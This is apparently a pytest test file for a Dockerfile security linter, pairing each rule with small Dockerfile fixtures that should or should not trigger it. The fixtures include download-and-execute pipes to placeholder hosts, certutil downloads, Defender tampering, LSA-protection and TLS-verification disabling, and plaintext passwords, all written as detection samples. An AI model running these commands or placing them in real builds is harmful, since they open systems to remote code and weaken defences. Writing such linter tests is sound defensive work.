"""Each rule with a hit and a near miss, on small Dockerfiles."""

from __future__ import annotations

import pytest

from chainproof.lint import lint_text

WIN = "# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\n"
PS = WIN + 'SHELL ["powershell", "-Command", "$ErrorActionPreference = \'Stop\';"]\n'
LIN = "FROM debian:12\n"

CASES = [
    # CP001 download-execute
    (PS + "RUN iwr https://x.example/i.ps1 -UseBasicParsing | iex\n", "CP001", True),
    (PS + "RUN Invoke-Expression (Invoke-RestMethod https://x.example/i.ps1)\n", "CP001", True),
    (PS + "RUN & ([scriptblock]::Create((irm https://x.example/i.ps1)))\n", "CP001", True),
    (WIN + "RUN msiexec /i https://x.example/a.msi /qn\n", "CP001", True),
    (LIN + "RUN curl -fsSL https://x.example/i.sh | sudo -E bash -\n", "CP001", True),
    (LIN + "RUN bash <(curl -fsSL https://x.example/i.sh)\n", "CP001", True),
    (LIN + "RUN curl -fsSL https://x.example/a.json | python3 -m json.tool\n", "CP001", False),
    (PS + "RUN $v = (iwr https://x.example/version.txt).Content; Write-Host $v\n", "CP001", False),
    (PS + "RUN iwr https://x.example/i.ps1 -OutFile i.ps1\n", "CP001", False),
    # CP002 download-unverified
    (
        PS + "RUN iwr https://x.example/a.zip -OutFile a.zip; Expand-Archive a.zip C:\\a\n",
        "CP002",
        True,
    ),
    (
        PS
        + "RUN (New-Object Net.WebClient).DownloadFile('https://x.example/a.exe', 'C:\\a.exe')\n",
        "CP002",
        True,
    ),
    (
        PS + "RUN Start-BitsTransfer -Source https://x.example/a.exe -Destination C:\\a.exe\n",
        "CP002",
        True,
    ),
    (LIN + "RUN wget https://x.example/a.tgz && tar xzf a.tgz\n", "CP002", True),
    (LIN + "RUN curl -fsSL https://x.example/a.tgz | tar -xz -C /opt\n", "CP002", True),
    (
        PS + "RUN iwr https://x.example/a.zip -OutFile a.zip\n"
        "RUN if ((Get-FileHash a.zip).Hash -ne '00ff') { exit 1 }\n",
        "CP002",
        False,
    ),
    (
        PS + "RUN iwr https://x.example/a.zip -OutFile a.zip\n"
        "RUN if ((Get-FileHash other.zip).Hash -ne '00ff') { exit 1 }\n",
        "CP002",
        True,
    ),
    (
        PS + "RUN if ((Get-FileHash a.zip).Hash -ne '00ff') { exit 1 }\n"
        "RUN iwr https://x.example/a.zip -OutFile a.zip\n",
        "CP002",
        True,
    ),
    (
        LIN
        + 'RUN curl -fsSLo a.tgz https://x.example/a.tgz && echo "$SHA  a.tgz" | sha256sum -c -\n',
        "CP002",
        False,
    ),
    (LIN + "RUN curl -fsSLO https://x.example/a.tgz.asc\n", "CP002", False),
    (
        PS + "RUN iwr https://x.example/a.zip -OutFile (Join-Path $env:TEMP 'a.zip')\n"
        "RUN if ((Get-FileHash $env:TEMP\\a.zip).Hash -ne '00') { exit 1 }\n",
        "CP002",
        False,
    ),
    (
        PS + "RUN iwr https://x.example/a.zip -OutFile $out\n"
        "RUN if ((Get-FileHash $out).Hash -ne '00') { exit 1 }\n",
        "CP002",
        True,
    ),
    # CP003 checksum-same-host
    (
        LIN
        + "RUN curl -fsSLO https://dl.example/a.tgz && curl -fsSLO https://dl.example/a.tgz.sha256 "
        "&& sha256sum -c a.tgz.sha256\n",
        "CP003",
        True,
    ),
    (
        LIN + "RUN curl -fsSLO https://dl.example/a.tgz && curl "
        "-fsSLO https://keys.example/a.tgz.sha256 "
        "&& sha256sum -c a.tgz.sha256\n",
        "CP003",
        False,
    ),
    (
        LIN
        + "RUN curl -fsSLO https://dl.example/a.tgz && curl -fsSLO https://dl.example/a.tgz.asc "
        "&& gpg --verify a.tgz.asc a.tgz\n",
        "CP003",
        False,
    ),
    # CP004 add-url-no-checksum
    (LIN + "ADD https://x.example/a.tgz /opt/\n", "CP004", True),
    (
        LIN + "ADD --checksum=sha256:" + "a" * 64 + " https://x.example/a.tgz /opt/\n",
        "CP004",
        False,
    ),
    # CP005 execution-policy-bypass
    (WIN + "RUN powershell -ExecutionPolicy Bypass -File C:\\s.ps1\n", "CP005", True),
    (PS + "RUN Set-ExecutionPolicy Unrestricted -Force\n", "CP005", True),
    (PS + "RUN Set-ExecutionPolicy RemoteSigned -Force\n", "CP005", False),
    # CP006 defender-tampering
    (PS + "RUN Set-MpPreference -DisableIOAVProtection $true\n", "CP006", True),
    (PS + "RUN Add-MpPreference -ExclusionProcess 'app.exe'\n", "CP006", True),
    (PS + "RUN Set-MpPreference -DisableRealtimeMonitoring $false\n", "CP006", False),
    (PS + "RUN Set-MpPreference -SignatureUpdateInterval 1\n", "CP006", False),
    # CP007 lolbin-transfer
    (WIN + "RUN certutil.exe -urlcache -split -f http://x.example/a a\n", "CP007", True),
    (WIN + "RUN certutil -hashfile a SHA256\n", "CP007", False),
    # CP008 tls-verification-disabled
    (
        PS + "RUN iwr https://x.example -SkipCertificateCheck -OutFile a; Get-FileHash a\n",
        "CP008",
        True,
    ),
    (LIN + "RUN curl -fsSLk https://x.example/a -o a && sha256sum a\n", "CP008", True),
    (LIN + "RUN git -c http.sslVerify=false clone https://x.example/r.git\n", "CP008", True),
    (LIN + "RUN curl -fsSL https://x.example/a -o a -K cfg && sha256sum a\n", "CP008", False),
    (
        PS + "RUN iwr https://x.example/a -OutFile a -SkipHeaderValidation; Get-FileHash a\n",
        "CP008",
        False,
    ),
    # CP009 tls-legacy-protocol
    (
        PS + "RUN [Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Ssl3\n",
        "CP009",
        True,
    ),
    (
        PS
        + "RUN [Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n",
        "CP009",
        False,
    ),
    (PS + "RUN [Net.ServicePointManager]::SecurityProtocol = 'Tls12, Tls13'\n", "CP009", False),
    (LIN + "RUN curl --tlsv1.0 https://x.example/a -o a && sha256sum a\n", "CP009", True),
    # CP010 password-on-command-line
    (WIN + "RUN net user svc S3cret! /add\n", "CP010", True),
    (WIN + "RUN net user svc * /add\n", "CP010", False),
    (WIN + "RUN net user svc /add /passwordreq:no\n", "CP010", False),
    (PS + "RUN $p = ConvertTo-SecureString $env:PW -AsPlainText -Force\n", "CP010", False),
    (LIN + "RUN docker login --password=hunter22 registry.example\n", "CP010", True),
    # CP011 user-added-to-administrators
    (WIN + "RUN net localgroup Administrators svc /add\n", "CP011", True),
    (WIN + "RUN net localgroup Users svc /add\n", "CP011", False),
    # CP012 world-writable-acl
    (WIN + "RUN icacls C:\\app /grant *S-1-1-0:(F)\n", "CP012", True),
    (WIN + "RUN icacls C:\\app /grant Everyone:(RX)\n", "CP012", False),
    # CP013 security-registry-change
    (
        WIN + "RUN reg add "
        '"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa" /v RunAsPPL /t REG_DWORD /d 0 /f\n',
        "CP013",
        True,
    ),
    (
        PS + "RUN Set-ItemProperty -Path "
        "'HKLM:\\SYSTEM\\ControlSet001\\Control\\Lsa' -Name NoLMHash -Value 0\n",
        "CP013",
        True,
    ),
    (WIN + 'RUN reg add "HKLM\\SOFTWARE\\MyApp" /v Lsa /d 1 /f\n', "CP013", False),
    # CP014 winrm-insecure
    (
        PS + "RUN Set-Item -Path WSMan:\\localhost\\Service\\AllowUnencrypted -Value $true\n",
        "CP014",
        True,
    ),
    (
        PS + "RUN Set-Item -Path WSMan:\\localhost\\Service\\AllowUnencrypted -Value $false\n",
        "CP014",
        False,
    ),
    # CP015 remote-admin-service
    (PS + "RUN Enable-PSRemoting -Force\n", "CP015", True),
    (
        LIN + "RUN apt-get install -y --no-install-recommends openssh-client=1:9.2p1-2\n",
        "CP015",
        False,
    ),
    # CP016 remote-admin-port
    (LIN + "EXPOSE 22/tcp\n", "CP016", True),
    (LIN + "EXPOSE 2222 8080\n", "CP016", False),
    # CP017 privileged-final-user
    (WIN + "USER ContainerUser\nUSER containeradministrator\n", "CP017", True),
    (WIN + "USER ContainerAdministrator\nRUN setx /M PATH x\nUSER ContainerUser\n", "CP017", False),
    (WIN + "FROM mcr.microsoft.com/windows/nanoserver:ltsc2022\n", "CP017", False),
    (
        WIN + "USER ContainerUser\nFROM mcr.microsoft.com/windows/servercore:ltsc2022\n",
        "CP017",
        True,
    ),
    (LIN + "USER root\n", "CP017", True),
    (WIN + "ARG user=ContainerAdministrator\nUSER ${user}\n", "CP017", True),
    ("ARG user=ContainerUser\n" + WIN + "ARG user\nUSER $user\n", "CP017", False),
    (LIN + "USER app\n", "CP017", False),
    # CP018 hostprocess-base
    (
        "FROM mcr.microsoft.com/oss/kubernetes/windows-host-process-containers-base-image:v1.0.0\n",
        "CP018",
        True,
    ),
    # CP101..CP103 base image pinning
    ("FROM ubuntu\nUSER a\n", "CP101", True),
    ("FROM ubuntu:latest\nUSER a\n", "CP102", True),
    ("FROM ubuntu:24.04\nUSER a\n", "CP103", True),
    ("FROM ubuntu:24.04@sha256:" + "b" * 64 + "\nUSER a\n", "CP103", False),
    ("FROM scratch\nUSER a\n", "CP101", False),
    ("ARG BASE\nFROM ${BASE}\nUSER a\n", "CP101", False),
    (LIN + "COPY --from=alpine /etc/passwd /x\n", "CP101", True),
    (
        "FROM debian:12@sha256:" + "c" * 64 + " AS b\nFROM b\nCOPY --from=b /a /a\nUSER a\n",
        "CP103",
        False,
    ),
    # CP105 secret-in-arg-env
    (LIN + "ENV MSSQL_SA_PASSWORD=Y0urStr0ng!\n", "CP105", True),
    (LIN + "ARG CLIENT_SECRET\n", "CP105", True),
    (LIN + "ENV PASSWORD_FILE=/run/secrets/pw\n", "CP105", False),
    (LIN + "ENV TOKENIZERS_PARALLELISM=false\n", "CP105", False),
    (LIN + "ENV GITHUBTOKEN=ghp_x GIT_AUTHOR=a\n", "CP105", True),
    (LIN + "ARG AWS_SECRET_ACCESS_KEY\n", "CP105", True),
    (LIN + "ENV PASSWORD_MIN_LENGTH=12\n", "CP105", False),
    (LIN + "ENV PASSENGER_VERSION=6.0\n", "CP105", False),
    (LIN + "ENV PATH=/usr/local/bin:$PATH\n", "CP105", False),
    # CP106 add-instead-of-copy
    (LIN + "ADD app.py /app/\n", "CP106", True),
    (LIN + "ADD rootfs.tar.xz /\n", "CP106", False),
    # CP107 package-verification-bypass
    (LIN + "RUN apt-get install -y --allow-unauthenticated x\n", "CP107", True),
    (PS + "RUN Install-Module Pester -Force -SkipPublisherCheck\n", "CP107", True),
    (PS + "RUN Install-Module Pester -Force\n", "CP107", False),
    # CP108 sudo
    (LIN + "RUN sudo make install\n", "CP108", True),
    (LIN + "RUN echo sudo\n", "CP108", False),
    # CP110..CP122 hygiene (hadolint parity)
    (
        LIN + "RUN apt-get update && apt-get install -y "
        "--no-install-recommends curl && rm -rf /var/lib/apt/lists/*\n",
        "CP110",
        True,
    ),
    (
        LIN + "RUN apt-get update && apt-get install -y "
        "--no-install-recommends curl=7.88.1 && rm -rf /var/lib/apt/lists/*\n",
        "CP110",
        False,
    ),
    (LIN + "RUN apt-get install -y curl=7.88.1\n", "CP111", True),
    (
        LIN + "RUN apt-get update && apt-get install -y --no-install-recommends curl=1\n",
        "CP112",
        True,
    ),
    (LIN + "RUN apt-get install curl=1\n", "CP113", True),
    (LIN + "RUN apt-get install -qq curl=1\n", "CP113", False),
    (LIN + "RUN apt install -y curl=1\n", "CP114", True),
    (LIN + "RUN apt-get update\n", "CP115", True),
    ("FROM alpine:3.20\nRUN apk add --no-cache curl\n", "CP116", True),
    ("FROM alpine:3.20\nRUN apk add --no-cache curl=8.9.0-r0\n", "CP116", False),
    ("FROM alpine:3.20\nRUN apk add curl=8.9.0-r0\n", "CP117", True),
    ("FROM rockylinux:9\nRUN yum install -y httpd && yum clean all\n", "CP118", True),
    ("FROM rockylinux:9\nRUN yum install -y httpd-2.4.57 && yum clean all\n", "CP118", False),
    ("FROM rockylinux:9\nRUN dnf install -y httpd-2.4.57\n", "CP119", True),
    ("FROM rockylinux:9\nRUN dnf install httpd-2.4.57 && dnf clean all\n", "CP120", True),
    (LIN + "RUN wget -qO- https://x.example/a | wc -l\n", "CP121", True),
    (
        LIN + 'SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN wget '
        "-qO- https://x.example/a | wc -l\n",
        "CP121",
        False,
    ),
    (WIN + "RUN type a | findstr b\n", "CP121", False),
    (LIN + "RUN pip install requests\n", "CP122", True),
    (LIN + "RUN pip install requests==2.32.3 -r req.txt\n", "CP122", False),
    (LIN + "RUN python3 -m pip install --no-cache-dir flask\n", "CP122", True),
]


@pytest.mark.parametrize(("text", "rule", "hit"), CASES)
def test_rule_hit_or_near_miss(text: str, rule: str, hit: bool) -> None:
    rules = {f.rule for f in lint_text(text)}
    assert (rule in rules) is hit, sorted(rules)


def test_findings_point_at_the_line_of_the_command_in_a_multiline_run() -> None:
    text = (
        PS
        + "RUN Write-Host one; `\n"
        + "    Write-Host two; `\n"
        + "    iwr https://x.example/i.ps1 | iex\n"
    )
    [finding] = [f for f in lint_text(text) if f.rule == "CP001"]
    assert finding.line == 6  # the iwr line, not the RUN's first line
    assert finding.end_line == 6


def test_final_user_is_case_insensitive_and_only_the_last_user_of_the_last_stage_counts() -> None:
    text = (
        WIN + "USER ContainerAdministrator\n"
        "FROM mcr.microsoft.com/windows/nanoserver:ltsc2022\n"
        "USER CONTAINERADMINISTRATOR\nUSER ContainerUser\n"
    )
    assert "CP017" not in {f.rule for f in lint_text(text)}
    assert "CP017" in {f.rule for f in lint_text(text + "USER CONTAINERADMINISTRATOR\n")}


def test_user_is_inherited_from_an_earlier_stage() -> None:
    text = WIN + "USER ContainerAdministrator\nFROM 0 AS final\nRUN dir\n"
    [finding] = [f for f in lint_text(text) if f.rule == "CP017"]
    assert finding.line == 3


def test_inline_suppression_needs_the_rule_and_keeps_the_reason() -> None:
    text = (
        LIN
        + "# chainproof ignore=CP108,apt-unpinned needed for the vendor installer\n"
        + "RUN sudo apt-get install -y --no-install-recommends vendor\n"
        + "USER app\n"
    )
    findings = lint_text(text)
    suppressed = {f.rule: f.suppressed for f in findings if f.suppressed}
    assert suppressed == {
        "CP108": "needed for the vendor installer",
        "CP110": "needed for the vendor installer",
    }
    # A suppression applies only to the instruction right below it.
    text2 = LIN + "# chainproof ignore=CP108 x\nUSER app\nRUN sudo true\n"
    assert [f.suppressed for f in lint_text(text2) if f.rule == "CP108"] == [None]
